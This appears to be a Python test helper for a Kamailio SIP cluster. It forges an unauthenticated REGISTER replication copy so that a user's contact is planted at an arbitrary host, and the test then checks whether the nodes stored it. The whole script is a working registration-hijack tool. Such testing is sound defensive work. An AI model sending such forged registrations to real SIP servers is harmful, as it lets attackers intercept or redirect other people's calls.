"""Send one forged copy of a REGISTER (kamailio_usrloc_replication_method
register_copy: how the nodes pass on the REGISTERs they accepted) to a node,
as a host that wants to plant a registration without the user's password
would: the user's contact pointed at CONTACT_HOST.

    register_copy_send.py DEST_IP DEST_PORT USER CONTACT_HOST SOCKET

A node stores a copy without answering it, so nothing is read back here:
the test asks the nodes what they hold.
"""
import argparse
import random
import socket


def request(dest, port, local, user, contact_host, sock):
    branch = "z9hG4bK-copy-%08x" % random.getrandbits(32)
    return (
        "REGISTER sip:%s:%d SIP/2.0\r\n"
        "Via: SIP/2.0/UDP %s:%d;branch=%s\r\n"
        "From: <sip:%s@%s>;tag=%08x\r\n"
        "To: <sip:%s@%s>\r\n"
        "Call-ID: copy-%08x@%s\r\n"
        "CSeq: 1 REGISTER\r\n"
        "Max-Forwards: 70\r\n"
        "Contact: <sip:%s@%s:5099>;expires=600\r\n"
        "X-Sipha-Copy: 1\r\n"
        "X-Sipha-Socket: %s\r\n"
        "Content-Length: 0\r\n\r\n"
        % (dest, port, local[0], local[1], branch, user, dest, random.getrandbits(32), user, dest,
           random.getrandbits(32), local[0], user, contact_host, sock)
    )


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("dest")
    parser.add_argument("port", type=int)
    parser.add_argument("user")
    parser.add_argument("contact_host")
    parser.add_argument("socket", help="what X-Sipha-Socket names, e.g. udp:VIP:5060")
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((args.dest, args.port))
    message = request(args.dest, args.port, sock.getsockname(), args.user, args.contact_host, args.socket)
    sock.send(message.encode())
    print("sent")


if __name__ == "__main__":
    main()
